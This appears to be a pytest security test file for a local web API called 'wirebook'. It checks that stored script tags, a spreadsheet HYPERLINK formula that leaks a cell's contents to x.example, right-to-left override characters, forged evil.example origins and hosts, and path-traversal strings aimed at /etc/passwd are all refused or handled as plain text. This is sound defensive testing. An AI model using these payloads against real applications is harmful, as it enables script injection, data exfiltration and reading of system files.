"""Hostile reports and hostile pages: nothing in a report runs, and nothing reaches the record but its own pages."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from fastapi.testclient import TestClient

from tests.api.conftest import POSTING, browser
from tests.api.test_events import got
from tests.standin import FACTORY
from wirebook.api import Options
from wirebook.pipeline.build import build
from wirebook.store import database

SCRIPT = "</script><script>alert(1)</script><img src=x onerror=alert(2)>"
FORMULA = '=HYPERLINK("http://x.example/?"&A1,"open")'
ARABIC = "\u202eقصف على السوق\u202c في المدينة"
TOKEN = "a-token-of-many-characters"  # noqa: S105 - made up for the test
ACCEPT = {"act": "accept", "event": "e000", "who": "Ana"}


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A record of reports that would do harm where they are not handled as text."""
    folder = tmp_path_factory.mktemp("hostile")
    titles = {"script": SCRIPT, "formula": FORMULA, "arabic": ARABIC, "long": "T" * 5_000_000}
    (folder / "reports").mkdir()
    for name, title in titles.items():
        told = f"{title}\n{SCRIPT if name == 'script' else name}|2016-07-10\nshelling|2016-07-02|Alpha|35.0|36.0|4\n"
        (folder / "reports" / f"{name}.txt").write_text(told, encoding="utf-8")
    path = folder / "hostile.wirebook"
    build([folder / "reports"], path, analyser=FACTORY)
    return path


def test_a_stored_script_is_never_sent_as_a_page(hostile: Path) -> None:
    client = browser(hostile)
    for path in ("/reports", "/events", "/search?text=alert", "/outlets", "/events/facets"):
        response = client.get(path)
        assert response.status_code == 200
        assert response.headers["content-type"] == "application/json"
        assert response.headers["x-content-type-options"] == "nosniff"
        assert "script-src 'self';" in response.headers["content-security-policy"]
        assert "unsafe-inline" not in response.headers["content-security-policy"]
    report = next(one for one in got(client, "/reports?limit=10")["items"] if one["title"] == SCRIPT)
    assert got(client, f"/reports/{report['id']}")["title"] == SCRIPT


def test_a_title_of_five_megabytes_is_cut_in_lists_and_whole_in_its_report(hostile: Path) -> None:
    client = browser(hostile)
    response = client.get("/reports?limit=10")
    assert len(response.content) < 20_000
    report = next(one for one in response.json()["items"] if one["title"].endswith("…"))
    whole = got(client, f"/reports/{report['id']}")
    assert len(whole["title"]) == 5_000_000
    event = next(one for one in got(client, "/events?limit=10")["items"])
    assert client.get(f"/events/{event['id']}").status_code == 200


def test_changes_of_writing_direction_and_formulas_arrive_as_the_text_they_are(hostile: Path) -> None:
    client = browser(hostile)
    raw = client.get("/reports?limit=10")
    assert "\u202e" not in raw.text
    titles = {one["title"] for one in raw.json()["items"]}
    assert {ARABIC, FORMULA} <= titles
    assert got(client, "/search?text=قصف")["total"] == 1


def test_another_sites_page_cannot_decide(client: TestClient) -> None:
    refusals = {
        "no header": {},
        "another origin": {**POSTING, "Origin": "http://evil.example"},
        "another port": {**POSTING, "Origin": "http://127.0.0.1:9999"},
        "the browser says so": {**POSTING, "Sec-Fetch-Site": "cross-site"},
        "a subdomain": {**POSTING, "Sec-Fetch-Site": "same-site"},
        "no origin to tell": {**POSTING, "Origin": "null"},
    }
    for why, headers in refusals.items():
        response = client.post("/judgements", json=ACCEPT, headers=headers)
        assert (why, response.status_code) == (why, 403)
        assert response.json()["error"]["code"] == "forbidden"
    own = {**POSTING, "Origin": "http://127.0.0.1:8765", "Sec-Fetch-Site": "same-origin"}
    assert client.post("/judgements", json=ACCEPT, headers=own).status_code == 404


def test_only_json_is_taken(client: TestClient) -> None:
    for kind in ("text/plain", "application/x-www-form-urlencoded", ""):
        headers = {**POSTING, "Content-Type": kind}
        assert client.post("/judgements", content=json.dumps(ACCEPT), headers=headers).status_code == 415


@pytest.mark.parametrize("host", ["evil.example", "127.0.0.1.evil.example:8765", "", "[", "localhost@evil.example"])
def test_a_page_that_calls_this_machine_by_its_own_name_gets_nothing(record: Path, host: str) -> None:
    response = browser(record).get("/about", headers={"Host": host})
    assert response.status_code == 403
    assert "counts" not in response.text


@pytest.mark.parametrize("host", ["127.0.0.1:8765", "localhost", "[::1]:8765", "LOCALHOST:1"])
def test_this_machines_own_names_are_answered(record: Path, host: str) -> None:
    assert browser(record).get("/about", headers={"Host": host}).status_code == 200


def test_a_token_is_asked_for_everywhere_and_opens_a_session(record: Path) -> None:
    client = browser(record, Options(token=TOKEN, pages={}))
    for path in ("/about", "/events", "/openapi.json", "/export?format=json", "/nothing"):
        assert client.get(path).status_code == 401, path
    assert client.post("/judgements", json=ACCEPT, headers=POSTING).status_code == 401
    assert client.get("/session").json() == {"needed": True, "open": False}
    assert client.post("/session", json={"token": "wrong"}, headers=POSTING).status_code == 401
    assert client.post("/session", json={"token": TOKEN}).status_code == 403
    opened = client.post("/session", json={"token": TOKEN}, headers=POSTING)
    assert opened.json() == {"needed": True, "open": True}
    cookie = opened.headers["set-cookie"]
    assert "HttpOnly" in cookie
    assert "SameSite=strict" in cookie
    assert TOKEN not in cookie
    assert client.get("/about").status_code == 200
    client.request("DELETE", "/session", headers=POSTING)
    assert client.get("/about").status_code == 401


def test_a_program_sends_the_token_with_each_request(record: Path) -> None:
    client = browser(record, Options(token=TOKEN, pages={}))
    for given, status in ((f"Bearer {TOKEN}", 200), (f"bearer {TOKEN}", 200), ("Bearer x", 401), (TOKEN, 401)):
        assert client.get("/about", headers={"Authorization": given}).status_code == status
    odd = {"Cookie": 'wirebook-session=x; =; a="', "Host": "anything.example"}
    assert client.get("/about", headers=odd).status_code == 401


def test_more_than_a_megabyte_is_refused_whether_or_not_its_length_is_told(client: TestClient) -> None:
    body = json.dumps({**ACCEPT, "why": "w" * 1_100_000}).encode()
    headers = {**POSTING, "Content-Type": "application/json"}
    assert client.post("/judgements", content=body, headers=headers).status_code == 413

    def parts() -> object:
        for at in range(0, len(body), 100_000):
            yield body[at : at + 100_000]

    untold = client.post("/judgements", content=parts(), headers=headers)  # type: ignore[arg-type]
    assert untold.status_code == 413
    assert untold.json()["error"]["code"] == "too_large"


def test_an_answer_that_takes_too_long_is_given_up(record: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(database, "STEPS_BETWEEN", 1)
    response = browser(record, Options(pages={}, seconds=-1.0)).get("/events/facets")
    assert response.status_code == 503
    assert response.json()["error"]["code"] == "too_slow"


@pytest.mark.parametrize(
    "path",
    [
        "/../../../../etc/passwd",
        "/..%2f..%2fetc%2fpasswd",
        "/%2e%2e/record.wirebook",
        "/assets/../../x",
        "//etc/passwd",
    ],
)
def test_no_path_leads_to_a_file(record: Path, tmp_path: Path, path: str) -> None:
    page = tmp_path / "index.html"
    page.write_text("<!doctype html><title>The workbench</title>")
    (tmp_path / "secret.txt").write_text("secret")
    client = browser(record, Options(pages={"/index.html": page}))
    response = client.get(f"http://127.0.0.1:8765{path}")
    assert response.status_code in (200, 404)
    assert response.status_code == 404 or "The workbench" in response.text
    assert client.get("http://127.0.0.1:8765/secret.txt").text == page.read_text()


def test_the_pages_are_served_under_their_addresses_and_the_api_apart(record: Path, tmp_path: Path) -> None:
    from wirebook.api.pages import built

    (tmp_path / "static" / "assets").mkdir(parents=True)
    (tmp_path / "static" / "index.html").write_text("<!doctype html>")
    (tmp_path / "static" / "assets" / "app-1a2b.js").write_text("1")
    client = browser(record, Options(pages=built(tmp_path / "static")))
    at = "http://127.0.0.1:8765"
    script = client.get(f"{at}/assets/app-1a2b.js")
    assert script.headers["content-type"].startswith("text/javascript")
    assert "immutable" in script.headers["cache-control"]
    for path in ("/", "/event/e0123", "/search"):
        page = client.get(at + path)
        assert page.headers["content-type"].startswith("text/html")
        assert page.headers["cache-control"] == "no-cache"
    assert client.get(f"{at}/api/v1/nothing").json()["error"]["code"] == "not_found"
    assert client.get(f"{at}/api/v2/events").status_code == 404


def test_pages_that_are_not_built_say_how_to_get_them(record: Path) -> None:
    response = browser(record, Options(pages={})).get("http://127.0.0.1:8765/")
    assert response.status_code == 503
    assert "Node" in response.text


def test_a_record_that_cannot_be_written_can_be_read_and_says_so(record: Path) -> None:
    client = browser(record, Options(pages={}, judging=False))
    assert got(client, "/about")["judging"] is False
    response = client.post("/judgements", json=ACCEPT, headers=POSTING)
    assert response.status_code == 503
    assert "cannot be written" in response.json()["error"]["message"]


def test_a_record_that_is_gone_is_told_in_the_one_shape(tmp_path: Path) -> None:
    response = browser(tmp_path / "none.wirebook").get("/about")
    assert response.status_code == 503
    assert "There is no record" in response.json()["error"]["message"]
